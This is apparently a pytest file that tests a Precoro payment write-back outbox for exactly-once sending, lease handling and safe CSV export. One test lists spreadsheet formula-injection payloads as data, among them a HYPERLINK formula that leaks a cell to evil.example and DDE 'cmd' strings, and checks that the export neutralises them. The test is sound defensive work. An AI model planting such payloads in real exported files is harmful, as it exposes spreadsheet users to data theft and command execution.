"""The outbox and the executor against a small in-memory Precoro: exactly once, whatever the network does."""

from __future__ import annotations

import copy
import csv
import time
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path

import pytest

from precoro_assets import settings
from precoro_assets.api.errors import PrecoroConnectionError, PrecoroServerError, PrecoroValidationError
from precoro_assets.ledger.file_sink import FileLedgerSink
from precoro_assets.ledger.source import BILL, CREDIT_NOTE, ExportDocument, ExportVendor
from precoro_assets.writeback.executor import WriteBack
from precoro_assets.writeback.outbox import Outbox
from precoro_assets.writeback.proposals import CREATE_PAYMENT, EXPORT, SET_EXTERNAL_ID, Proposal


class FakePrecoro:
    """Invoices and their payments; `lose`/`fail` make the next POSTs misbehave like the network can."""

    def __init__(self) -> None:
        self.invoices = {"7": {"id": 400007, "idn": 7, "sum": Decimal("100.00"), "sumPaid": "0.00", "status": 2,
                               "statusString": "Approved", "logicType": 0, "currency": "EUR", "externalId": None,
                               "externalIntegrationLog": None, "payments": {"data": []}}}
        self.posts = 0
        self.patches = 0
        self.lose: list[str] = []  # per POST: "lost" (applied, no answer), "5xx" (not applied), "400"

    def get_detail(self, resource: str, key: str) -> dict:
        return copy.deepcopy(self.invoices[str(key)])

    def create_payment(self, invoice_id: int, sum_paid: Decimal, pay_date: date) -> dict:
        self.posts += 1
        fault = self.lose.pop(0) if self.lose else None
        if fault == "5xx":
            raise PrecoroServerError("Precoro failed on POST /payments (HTTP 502): Bad Gateway", status=502)
        if fault == "400":
            raise PrecoroValidationError({"sumPaid": "The Invoice is already fully paid."}, method="POST",
                                         path="/payments")
        invoice = next(i for i in self.invoices.values() if i["id"] == invoice_id)
        payment = {"id": 600000 + self.posts, "idn": self.posts, "sumPaid": sum_paid,
                   "payDate": f"{pay_date.isoformat()}T00:00:00+00:00"}
        invoice["payments"]["data"].append(payment)
        invoice["sumPaid"] = str(Decimal(invoice["sumPaid"]) + sum_paid)
        invoice["status"] = 5 if Decimal(invoice["sumPaid"]) >= invoice["sum"] else 4
        if fault == "lost":
            raise PrecoroConnectionError("no answer from Precoro for POST /payments: ReadError", method="POST",
                                         path="/payments")
        return payment

    def patch_external(self, resource: str, key: str, external_id: str | None = None,
                       external_integration_log: str | None = None) -> dict:
        self.patches += 1
        if external_id is not None:
            self.invoices[str(key)]["externalId"] = external_id
        return self.invoices[str(key)]


def pay(amount: str = "40.00", ledger_id: str = "L-1") -> Proposal:
    return Proposal(CREATE_PAYMENT, "invoices", "7", 400007,
                    {"invoice_id": 400007, "amount": amount, "currency": "EUR", "pay_date": "2026-11-02",
                     "ledger_payment_id": ledger_id, "known_payment_ids": []}, "paid in the ledger", ledger_id)


@pytest.fixture
def outbox(tmp_path: Path, state_backend: str) -> Outbox:
    """An empty queue, in a SQLite file and in PostgreSQL (each test runs on both)."""
    return Outbox(tmp_path / "outbox.sqlite", settings.load_state().database_url_value)  # see state_backend


def run(precoro: FakePrecoro, outbox: Outbox, tmp_path: Path, run_id: str = "run-1"):
    return WriteBack(precoro, outbox, FileLedgerSink(tmp_path), run_id, send=True).run()


def test_a_lost_answer_is_adopted_not_paid_twice(outbox: Outbox, tmp_path: Path):
    precoro = FakePrecoro()
    precoro.lose = ["lost"]
    outbox.propose([pay()], "batch-1")
    [report] = run(precoro, outbox, tmp_path)
    assert report.status == "sent" and "adopted" in report.outcome
    assert precoro.posts == 1 and len(precoro.invoices["7"]["payments"]["data"]) == 1


def test_a_5xx_that_did_not_land_is_sent_again_after_checking(outbox: Outbox, tmp_path: Path):
    precoro = FakePrecoro()
    precoro.lose = ["5xx"]
    outbox.propose([pay()], "batch-1")
    [report] = run(precoro, outbox, tmp_path)
    assert report.status == "sent" and "created" in report.outcome
    assert precoro.posts == 2 and len(precoro.invoices["7"]["payments"]["data"]) == 1


def test_a_run_that_died_after_its_post_landed_is_adopted_by_the_next_run(outbox: Outbox, tmp_path: Path):
    precoro = FakePrecoro()
    outbox.propose([pay()], "batch-1")
    row = outbox.claim(outbox.rows()[0].key, "run-dead")
    outbox.mark_in_flight(row.key, {"payment_ids_before": []}, "POST /payments ...")
    precoro.create_payment(400007, Decimal("40.00"), date(2026, 11, 2))  # landed; then the run was killed
    assert run(precoro, outbox, tmp_path, "run-2") == []  # still leased to the dead run: not taken yet
    with pytest.MonkeyPatch.context() as patch:  # ... until its lease has run out
        patch.setattr("precoro_assets.writeback.outbox.LEASE", timedelta(0))
        [report] = run(precoro, outbox, tmp_path, "run-3")
    assert report.status == "sent" and "adopted" in report.outcome and precoro.posts == 1


def test_precoro_refusals_are_stored_verbatim_and_already_paid_invoices_are_skipped(outbox: Outbox, tmp_path: Path):
    precoro = FakePrecoro()
    precoro.lose = ["400"]
    outbox.propose([pay()], "batch-1")
    [report] = run(precoro, outbox, tmp_path)
    assert report.status == "failed" and "The Invoice is already fully paid." in outbox.rows()[0].last_error
    assert outbox.rows()[0].in_flight is None  # a 400 created nothing: nothing to adopt later

    precoro = FakePrecoro()
    precoro.invoices["7"].update(sumPaid="100.00", status=5, statusString="Paid")
    outbox.propose([pay(ledger_id="L-2")], "batch-2")
    [report] = run(precoro, outbox, tmp_path)
    assert report.status == "skipped" and "already fully paid" in report.outcome and precoro.posts == 0


def test_patches_skip_what_precoro_already_holds_and_never_overwrite_another_link(outbox: Outbox, tmp_path: Path):
    precoro = FakePrecoro()
    precoro.invoices["7"]["externalId"] = "QB-OTHER"
    link = Proposal(SET_EXTERNAL_ID, "invoices", "7", 400007, {"fields": {"externalId": "B-7"}}, "bill B-7", "B-7")
    outbox.propose([link], "batch-1")
    [report] = run(precoro, outbox, tmp_path)
    assert report.status == "skipped" and "QB-OTHER" in report.outcome and precoro.patches == 0


def test_the_queue_never_duplicates_revives_or_double_claims(outbox: Outbox, tmp_path: Path):
    first = outbox.propose([pay(), pay("60.00", "L-2")], "batch-1")
    assert (first.new, first.known) == (2, 0)
    key = next(r.key for r in outbox.rows() if r.ledger_ref == "L-1")
    assert outbox.claim(key, "run-a") is not None
    assert outbox.claim(key, "run-b") is None  # taken: another run can't send it too
    outbox.finish(key, "sent", "created")
    again = outbox.propose([pay()], "batch-2")  # L-2 is no longer proposed: its pending row is retired
    assert (again.new, again.known, again.superseded) == (0, 1, 1)
    statuses = {r.ledger_ref: r.status for r in outbox.rows()}
    assert statuses == {"L-1": "sent", "L-2": "skipped"}
    assert outbox.propose([pay()], "batch-3").new == 0 and outbox.rows()[0].status == "sent"  # not revived
    # a disagreement that went away and came back: the never-sent row is pending again (not a second row)
    back = outbox.propose([pay(), pay("60.00", "L-2")], "batch-4")
    assert (back.new, back.known, back.revived) == (0, 1, 1)
    assert {r.ledger_ref: r.status for r in outbox.rows()} == {"L-1": "sent", "L-2": "pending"}


# ---- exports that the accounting side's files can't take ----------------------------------------------------------

def export(idn: str) -> Proposal:
    return Proposal(EXPORT, "invoices", idn, 400000 + int(idn), {"supplier": "?", "number": "?", "amount": "1.00",
                                                                 "currency": "EUR"}, "not in the ledger: offer it")


def with_invoices_to_export(precoro: FakePrecoro, suppliers: dict[str, str]) -> FakePrecoro:
    for idn, supplier in suppliers.items():
        precoro.invoices[idn] = {**copy.deepcopy(precoro.invoices["7"]), "id": 400000 + int(idn), "idn": int(idn),
                                 "supplier": {"name": supplier}, "invoiceNumber": f"INV-{idn}"}
    return precoro


def test_a_field_too_long_for_the_export_fails_alone_and_nothing_strands_in_sending(outbox: Outbox, tmp_path: Path):
    huge = "Supplier " + "x" * 200 * 1024  # 200 KiB: over the csv module's 128 KiB field limit
    precoro = with_invoices_to_export(FakePrecoro(), {"8": "ACME", "9": huge, "10": "Nordwind", "11": "Zeta"})
    outbox.propose([export("8"), export("9"), pay(), export("10")], "batch-1")
    run(precoro, outbox, tmp_path)
    outbox.propose([export("11")], "batch-2")  # a later run, after the long name met the export file
    run(precoro, outbox, tmp_path, "run-2")

    status = {row.target_key: row for row in outbox.rows()}
    assert {key: row.status for key, row in status.items()} == {
        "7": "sent", "8": "sent", "9": "failed", "10": "sent", "11": "sent"}
    assert "supplier is 204,809 characters long" in status["9"].last_error
    assert outbox.counts()["sending"] == 0 and outbox.workable() == []
    assert precoro.invoices["11"]["externalId"] == "ACC-BILL-11"


def test_an_export_file_already_holding_a_huge_field_fails_its_rows_alone_with_the_reason(outbox: Outbox,
                                                                                       tmp_path: Path):
    # written by hand, or before exports were limited: every offer reads the file first
    (tmp_path / "export").mkdir()
    (tmp_path / "export" / "invoices.csv").write_text(
        "external_id,precoro_idn,precoro_id,supplier,number,amount,currency,exported_at,type\n"
        f"ACC-BILL-1,1,400001,{'x' * 200 * 1024},INV-1,1.00,EUR,2026-11-02T00:00:00+00:00,bill\n", encoding="utf-8")
    precoro = with_invoices_to_export(FakePrecoro(), {"8": "ACME", "10": "Nordwind"})
    outbox.propose([export("8"), pay(), export("10")], "batch-1")
    run(precoro, outbox, tmp_path)

    status = {row.target_key: row for row in outbox.rows()}
    assert {key: row.status for key, row in status.items()} == {"7": "sent", "8": "failed", "10": "failed"}
    assert all("invoices.csv can't be read" in status[key].last_error for key in ("8", "10"))
    assert outbox.counts()["sending"] == 0


def test_export_text_cells_cannot_run_as_spreadsheet_formulas_and_numbers_stay_numbers(tmp_path: Path):
    hostile = {"8": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "9": "+1+cmd|' /C calc'!A0",
               "10": "-2+3", "11": "@SUM(1+1)*cmd", "12": "\tcmd", "13": "\rcmd", "14": "'=already quoted",
               "15": "Müller & Söhne"}
    sink = FileLedgerSink(tmp_path)
    for idn, supplier in hostile.items():
        kind, amount = (CREDIT_NOTE, Decimal("-12.50")) if idn == "10" else (BILL, Decimal("12.50"))
        assert sink.offer(ExportDocument("invoices", idn, 400000 + int(idn), supplier, supplier, amount, "EUR",
                                         kind)).accepted
    def exported() -> list[dict]:
        with open(tmp_path / "export" / "invoices.csv", newline="", encoding="utf-8") as handle:
            return list(csv.DictReader(handle))

    rows = {row["precoro_idn"]: row for row in exported()}

    for idn, supplier in hostile.items():
        safe = supplier if idn == "15" else "'" + supplier
        assert rows[idn]["supplier"] == rows[idn]["number"] == safe, idn
    assert rows["10"]["amount"] == "-12.50" and rows["8"]["amount"] == "12.50"  # numbers, not text
    # the sink still knows what it exported, by the exact names: offering again adds no line
    assert sink.offer(ExportDocument("invoices", "8", 400008, hostile["8"], "x", Decimal("1"), "EUR")).accepted
    assert len(exported()) == len(hostile)
    sink.offer_vendor(ExportVendor(5, "=cmd|' /C calc'!A0"))
    (tmp_path / "vendors.csv").write_text("vendor_id,name\nV-1,ACME\n")
    assert sink.offer(ExportDocument("invoices", "20", 400020, "=cmd|' /C calc'!A0", "N-20", Decimal("1"),
                                     "EUR")).accepted  # a vendor offered under a formula-like name is known by it


class SlowReadPrecoro(FakePrecoro):
    """A Precoro whose first re-read of the invoice fails (a 500), so the row is put aside; while it waits, the
    run has been slow enough for its lease to run out and another run claims the row (`during_wait`)."""

    def __init__(self, during_wait) -> None:
        super().__init__()
        self.during_wait = during_wait
        self.reads = 0

    def retry_at(self, path: str) -> float:
        return time.time() + 0.05

    def get_detail_with_text(self, resource: str, key: str, retry_failures: bool = True):
        self.reads += 1
        if self.reads == 1:
            self.during_wait()
            raise PrecoroServerError("Precoro failed on GET /invoices/7 (HTTP 500)", status=500)
        return self.get_detail(resource, key), ""


def test_a_row_put_aside_and_taken_by_another_run_meanwhile_is_left_to_that_run(outbox: Outbox, tmp_path: Path):
    from datetime import UTC, datetime

    from precoro_assets.writeback.outbox import LEASE

    outbox.propose([pay()], "batch-1")
    key = outbox.rows()[0].key
    # another run claims the row as if this one had held it past its lease
    precoro = SlowReadPrecoro(lambda: outbox.claim(key, "run-2", now=datetime.now(UTC) + LEASE + timedelta(minutes=1)))

    reports = run(precoro, outbox, tmp_path, run_id="run-1")

    assert reports == [] and precoro.posts == 0  # run-1 neither sent it nor reported it as its own
    assert outbox.get(key).last_run_id == "run-2"
